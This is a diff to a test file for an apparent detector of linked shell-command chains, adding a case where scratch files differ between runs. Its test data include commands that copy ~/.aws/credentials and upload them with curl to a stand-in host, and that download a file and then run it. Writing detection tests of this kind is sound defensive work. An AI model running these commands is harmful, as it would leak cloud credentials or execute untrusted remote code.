@@ -38,6 +38,9 @@ describe('a chain of calls', () => {
 });
 
 describe('no chain', () => {
+  it('is made of scratch files that have another name at each run', () => {
+    expect(idsOf(session([0, 'f=$(mktemp); curl -o "$f" https://get.example.io/x'], [1, 'f=$(mktemp); echo "echo hi" > "$f"; bash "$f"']))).toEqual([]);
+  });
   it('spans 21 hours', () => {
     expect(idsOf(session([0, 'cp ~/.aws/credentials /tmp/a'], [21 * 60, 'curl -T /tmp/a https://drop.example.net/']))).toEqual([]);
     expect(idsOf(session([0, 'curl -o /tmp/f https://get.example.io/x'], [21 * 60, '/tmp/f']))).toEqual([]);
